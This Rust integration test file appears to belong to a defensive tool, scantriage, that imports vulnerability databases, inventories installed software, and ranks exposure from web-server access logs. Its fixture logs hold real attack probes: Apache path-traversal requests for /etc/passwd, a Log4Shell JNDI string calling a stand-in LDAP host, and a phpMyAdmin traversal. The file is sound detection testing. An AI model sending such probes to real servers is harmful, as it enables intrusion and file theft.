//! The vulnerability commands end to end: `vulndb import/update/status`,
//! `inventory discover` (with a real listening socket) and `exposure`.

use assert_cmd::Command;
use serde_json::Value;
use std::net::TcpListener;
use std::path::{Path, PathBuf};

fn scantriage() -> Command {
    let mut c = Command::cargo_bin("scantriage").unwrap();
    c.env_remove("SCANTRIAGE_CONFIG")
        .env_remove("SCANTRIAGE_DB");
    c
}

/// Runs the command, asserts it succeeded (showing its stderr otherwise), returns its
/// stdout.
fn stdout_of(cmd: &mut Command) -> Vec<u8> {
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

fn fixture(name: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures/vuln")
        .join(name)
        .display()
        .to_string()
}

fn config(dir: &Path, dpkg_status: &str, extra: &str) -> String {
    let p = dir.join("scantriage.toml");
    std::fs::write(
        &p,
        format!(
            "[inventory]\ndpkg_status = \"{}\"\ndocroots = []\n{extra}",
            fixture(dpkg_status)
        ),
    )
    .unwrap();
    p.display().to_string()
}

fn import_fixtures(db: &str) {
    scantriage()
        .args(["vulndb", "import", "--db", db])
        .args([
            fixture("osv-debian.zip"),
            fixture("kev-excerpt.json"),
            fixture("debian-tracker.json"),
        ])
        .assert()
        .success()
        .stdout(predicates::str::contains("3 KEV entries"));
}

fn status(db: &str) -> Vec<Value> {
    let out = stdout_of(scantriage().args(["vulndb", "status", "--db", db, "--output", "json"]));
    String::from_utf8(out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn import_then_status_counts_per_source() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db").display().to_string();
    import_fixtures(&db);
    let st = status(&db);
    let rec = |s: &str| {
        st.iter().find(|v| v["source"] == s).unwrap()["records"]
            .as_u64()
            .unwrap()
    };
    assert_eq!((rec("osv"), rec("debian-tracker"), rec("kev")), (3, 4, 3));
    scantriage()
        .args(["vulndb", "status", "--db", &db])
        .assert()
        .success()
        .stdout(predicates::str::contains("imported just now"))
        .stdout(predicates::str::contains("version 2025.08.25"));
    // The store is still a scantriage store.
    scantriage()
        .args(["decisions", "--db", &db])
        .assert()
        .success();
}

#[test]
fn update_without_network_fails_clearly_and_keeps_the_database() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db").display().to_string();
    import_fixtures(&db);
    let before = status(&db);
    scantriage()
        .args(["vulndb", "update", "--db", &db, "--timeout", "5s"])
        .args(["--osv-url", "http://127.0.0.1:9/Debian/all.zip"])
        .args(["--kev-url", "http://127.0.0.1:9/kev.json"])
        .args(["--debian-tracker-url", "http://127.0.0.1:9/json"])
        .assert()
        .code(1)
        .stderr(predicates::str::contains(
            "cannot download http://127.0.0.1:9/",
        ))
        .stderr(predicates::str::contains("left as it was"));
    assert_eq!(status(&db), before);
}

#[test]
fn discover_lists_a_real_listening_socket_and_saves() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db").display().to_string();
    let cfg = config(dir.path(), "dpkg-status-affected", "");
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    let out = stdout_of(
        scantriage()
            .args(["inventory", "discover", "--config", &cfg, "--db", &db])
            .args(["--output", "json", "--save"]),
    );
    let v: Value = serde_json::from_slice(&out).unwrap();
    let me = std::process::id();
    let l = v["listeners"]
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["port"] == port && l["proto"] == "tcp")
        .unwrap_or_else(|| panic!("port {port} missing: {v}"));
    assert_eq!(l["addr"], "127.0.0.1");
    assert_eq!(l["exposed"], false);
    assert!(
        l["pids"].as_array().unwrap().contains(&Value::from(me)),
        "{l}"
    );
    let comm = std::fs::read_to_string(format!("/proc/{me}/comm")).unwrap();
    assert_eq!(l["process"], comm.trim());
    let products = v["products"].as_array().unwrap();
    assert!(products
        .iter()
        .any(|p| p["product"] == "apache-httpd" && p["version"] == "2.4.49-1"));
    assert!(v["saved"].is_string());
    drop(server);
    // The table form too.
    scantriage()
        .args(["inventory", "discover", "--config", &cfg, "--db", &db])
        .assert()
        .success()
        .stdout(predicates::str::contains("apache-httpd"))
        .stdout(predicates::str::contains("listening sockets:"));
}

#[test]
fn exposure_ranks_known_exploited_and_probed_with_the_fix() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db").display().to_string();
    import_fixtures(&db);
    let cfg = config(
        dir.path(),
        "dpkg-status-affected",
        "[[inventory.product]]\nname = \"drupal\"\nversion = \"8.3.1\"\n",
    );
    scantriage()
        .args([
            "inventory",
            "discover",
            "--config",
            &cfg,
            "--db",
            &db,
            "--save",
        ])
        .assert()
        .success();
    // Probes in the logs, stored as findings by analyze.
    let log = dir.path().join("access.log");
    std::fs::write(
        &log,
        "203.0.113.7 - - [03/Nov/2025:00:00:01 +0100] \"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\" 400 0 \"-\" \"curl/8\"\n\
         203.0.113.8 - - [03/Nov/2025:00:00:02 +0100] \"GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\" 403 0 \"-\" \"curl/8\"\n",
    )
    .unwrap();
    scantriage()
        .args(["analyze", "--config", &cfg, "--db", &db, "--no-progress"])
        .arg(&log)
        .assert()
        .success();
    let out = stdout_of(scantriage().args([
        "exposure", "--config", &cfg, "--db", &db, "--output", "json",
    ]));
    let rows: Vec<Value> = String::from_utf8(out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let key: Vec<(String, String)> = rows
        .iter()
        .map(|r| {
            (
                r["product"].as_str().unwrap().to_string(),
                r["cve"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    // Known exploited and probed first (both apache CVEs), then known exploited (drupal),
    // then the rest.
    assert_eq!(
        key[..3],
        [
            ("apache-httpd".to_string(), "CVE-2021-42013".to_string()),
            ("apache-httpd".into(), "CVE-2021-41773".into()),
            ("drupal".into(), "CVE-2018-7600".into()),
        ]
    );
    assert_eq!(rows[0]["probed"]["requests"], 2);
    assert_eq!(rows[0]["probed"]["sources"], 2);
    assert_eq!(rows[0]["fixed"], "2.4.51-1");
    assert_eq!(rows[0]["known_exploited"], true);
    assert_eq!(rows[2]["fixed"], "8.3.9");
    assert_eq!(rows[3]["cve"], "CVE-2023-51767");
    assert!(rows[3]["fixed"].is_null());

    // The fixed apache2 leaves only drupal and openssh.
    let cfg_fixed = config(
        dir.path(),
        "dpkg-status-fixed",
        "[[inventory.product]]\nname = \"drupal\"\nversion = \"8.3.1\"\n",
    );
    scantriage()
        .args([
            "inventory",
            "discover",
            "--config",
            &cfg_fixed,
            "--db",
            &db,
            "--save",
        ])
        .assert()
        .success();
    scantriage()
        .args(["exposure", "--config", &cfg_fixed, "--db", &db])
        .assert()
        .success()
        .stdout(predicates::str::contains("CVE-2018-7600"))
        .stdout(predicates::str::contains("CVE-2021-41773").not());
}

use predicates::prelude::PredicateBooleanExt;

/// Analyses one Apache traversal probe (CVE-2021-41773) against the inventory that a
/// dpkg status fixture gives; returns the source's JSON object and the summary.
fn analyse_traversal_with(dpkg_status: &str) -> (Value, Value) {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db").display().to_string();
    import_fixtures(&db);
    let cfg = config(dir.path(), dpkg_status, "");
    scantriage()
        .args([
            "inventory",
            "discover",
            "--config",
            &cfg,
            "--db",
            &db,
            "--save",
        ])
        .assert()
        .success();
    let log = dir.path().join("access.log");
    std::fs::write(
        &log,
        "203.0.113.7 - - [03/Nov/2025:00:00:01 +0100] \"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\" 400 0 \"-\" \"curl/8\"\n",
    )
    .unwrap();
    let out = stdout_of(
        scantriage()
            .args([
                "analyze",
                "--config",
                &cfg,
                "--db",
                &db,
                "--no-progress",
                "--output",
                "json",
            ])
            .arg(&log),
    );
    let lines: Vec<Value> = String::from_utf8(out)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .collect();
    let source = lines
        .iter()
        .find(|v| v["ip"] == "203.0.113.7")
        .expect("the prober is in the output")
        .clone();
    let summary = lines.last().unwrap()["summary"].clone();
    (source, summary)
}

#[test]
fn an_affected_installed_version_makes_the_probe_urgent_the_fixed_one_relevant() {
    let (affected, summary) = analyse_traversal_with("dpkg-status-affected");
    assert_eq!(affected["verdict"], "urgent", "{affected}");
    assert_eq!(affected["decision"], "block");
    let reasons = affected["reasons"].to_string();
    for needle in ["CVE-2021-41773", "2.4.49-1", "2.4.51-1"] {
        assert!(reasons.contains(needle), "{needle} missing from {reasons}");
    }
    // The report lists the CVE probed, and says this server is affected and the fix.
    let probed = summary["cves_probed"].as_array().unwrap();
    let c = probed
        .iter()
        .find(|c| c["cve"] == "CVE-2021-41773")
        .expect("CVE listed");
    assert_eq!(c["affected"], true, "{c}");
    assert_eq!(c["fixed"], "2.4.51-1");
    assert_eq!(c["sources"], 1);

    let (fixed, summary) = analyse_traversal_with("dpkg-status-fixed");
    assert_eq!(fixed["verdict"], "relevant", "{fixed}");
    assert_eq!(
        fixed["decision"], "block",
        "an exploit that could work here still blocks"
    );
    let probed = summary["cves_probed"].as_array().unwrap();
    let c = probed
        .iter()
        .find(|c| c["cve"] == "CVE-2021-41773")
        .expect("CVE listed");
    assert_eq!(c["affected"], false, "{c}");
}

/// A Log4Shell probe is reported known exploited from the shipped KEV list alone: no
/// advisory database, no store; a probed CVE outside the catalog is not.
#[test]
fn probed_cves_are_flagged_known_exploited_without_any_import() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    std::fs::write(
        &log,
        "203.0.113.8 - - [03/Nov/2025:00:00:01 +0100] \"GET / HTTP/1.1\" 200 512 \"-\" \"${jndi:ldap://198.51.100.7:1389/a}\"\n\
         203.0.113.9 - - [03/Nov/2025:00:00:02 +0100] \"GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../etc/passwd HTTP/1.1\" 404 0 \"-\" \"curl/8\"\n",
    )
    .unwrap();
    let run = |format: &str| {
        let out = stdout_of(
            scantriage()
                .args(["analyze", "--no-store", "--no-progress", "--output", format])
                .arg(&log),
        );
        String::from_utf8(out).unwrap()
    };
    let json = run("json");
    let summary: Value = serde_json::from_str(json.lines().last().unwrap()).unwrap();
    let probed = summary["summary"]["cves_probed"].as_array().unwrap();
    let get = |id: &str| {
        probed
            .iter()
            .find(|c| c["cve"] == id)
            .unwrap_or_else(|| panic!("{id} not in {probed:?}"))
    };
    let log4shell = get("CVE-2021-44228");
    assert_eq!(log4shell["known_exploited"], true, "{log4shell}");
    assert_eq!(log4shell["affected"], false, "{log4shell}");
    let pma = get("CVE-2018-12613");
    assert_eq!(pma["known_exploited"], false, "{pma}");

    let table = run("table");
    let kev = probed
        .iter()
        .filter(|c| c["known_exploited"] == true)
        .count();
    let header = format!("CVES PROBED ({}, {kev} known exploited;", probed.len());
    assert!(table.contains(&header), "{header} not in {table}");
    let line = table
        .lines()
        .find(|l| l.contains("CVE-2021-44228"))
        .expect("Log4Shell in the terminal report");
    assert!(line.contains("known exploited"), "{line}");
    let line = table
        .lines()
        .find(|l| l.contains("CVE-2018-12613"))
        .unwrap();
    assert!(!line.contains("known exploited"), "{line}");
}

/// `rules coverage` counts the shipped KEV list's web-exposed entries that signatures
/// name; the pack covers at least half of those added since 2022, and the listed
/// missing entries are exactly the uncovered ones.
#[test]
fn rules_coverage_counts_web_exposed_kev_entries() {
    let out =
        stdout_of(scantriage().args(["rules", "coverage", "--since", "2022", "--output", "json"]));
    let c: Value = serde_json::from_slice(&out).unwrap();
    let web = c["web"].as_u64().unwrap();
    let covered = c["covered"].as_u64().unwrap();
    assert!(web > 300, "{web} web-exposed entries since 2022");
    assert!(covered * 2 >= web, "{covered} of {web} covered");
    assert_eq!(c["missing"].as_array().unwrap().len() as u64, web - covered);
    // Entries the pack names: Citrix Bleed and the GoAnywhere license servlet.
    let sigs = &c["signatures"];
    assert!(sigs["CVE-2023-4966"].is_array(), "{sigs}");
    assert!(sigs["CVE-2023-0669"][0] == "goanywhere-license-deserialization");
    let years: Vec<&str> = c["by_year"]
        .as_array()
        .unwrap()
        .iter()
        .map(|y| y["year"].as_str().unwrap())
        .collect();
    assert_eq!(years.first(), Some(&"2022"), "{years:?}");
    assert!(years.windows(2).all(|w| w[0] < w[1]), "{years:?}");

    let table = scantriage()
        .args(["rules", "coverage", "--missing"])
        .output()
        .unwrap();
    let text = String::from_utf8(table.stdout).unwrap();
    assert!(text.starts_with("KEV catalog "), "{text}");
    assert!(text.contains("NOT COVERED ("), "{text}");
}

/// A catalog imported into the store flags CVEs the shipped list does not hold yet (a
/// local rule names a CVE id from the future).
#[test]
fn an_imported_kev_catalog_extends_the_shipped_list() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db").display().to_string();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("local.toml"),
        r#"[[rule]]
id = "future-appliance-rce"
name = "Future appliance RCE"
description = "A probe for an entry newer than the shipped list."
targets = ["generic"]
cves = ["CVE-2099-4242"]
category = "exploit"
severity = "critical"
path = { contains = ["/future-appliance/rce"] }
[[rule.examples.match]]
request = "GET /future-appliance/rce HTTP/1.1"
[[rule.examples.no_match]]
request = "GET / HTTP/1.1"
"#,
    )
    .unwrap();
    let kev = dir.path().join("kev.json");
    std::fs::write(
        &kev,
        r#"{"title":"CISA Catalog of Known Exploited Vulnerabilities","catalogVersion":"2099.01.01",
"dateReleased":"2099-01-01T00:00:00Z","count":1,"vulnerabilities":[{"cveID":"CVE-2099-4242",
"vendorProject":"Future","product":"Appliance","vulnerabilityName":"Future Appliance RCE",
"dateAdded":"2099-01-01","shortDescription":"x","requiredAction":"x","dueDate":"2099-01-22",
"knownRansomwareCampaignUse":"Unknown","notes":"","cwes":[]}]}"#,
    )
    .unwrap();
    let cfg = config(
        dir.path(),
        "dpkg-status-fixed",
        &format!("[rules]\ndirs = [\"{}\"]\n", rules.display()),
    );
    // A new log per run: the store remembers how far each input was read.
    let analyse = |n: u8| {
        let log = dir.path().join(format!("access-{n}.log"));
        std::fs::write(
            &log,
            format!("203.0.113.{n} - - [03/Nov/2025:00:00:0{n} +0100] \"GET /future-appliance/rce HTTP/1.1\" 404 0 \"-\" \"curl/8\"\n"),
        )
        .unwrap();
        let out = stdout_of(
            scantriage()
                .args(["analyze", "--config", &cfg, "--db", &db, "--no-progress"])
                .args(["--output", "json"])
                .arg(&log),
        );
        let text = String::from_utf8(out).unwrap();
        let last: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
        let probed = last["summary"]["cves_probed"].as_array().unwrap().clone();
        probed
            .into_iter()
            .find(|c| c["cve"] == "CVE-2099-4242")
            .unwrap_or_else(|| panic!("the local rule's CVE is not listed: {text}"))
    };
    assert_eq!(analyse(1)["known_exploited"], false);
    scantriage()
        .args(["vulndb", "import", "--db", &db])
        .arg(&kev)
        .assert()
        .success();
    assert_eq!(analyse(2)["known_exploited"], true);
}
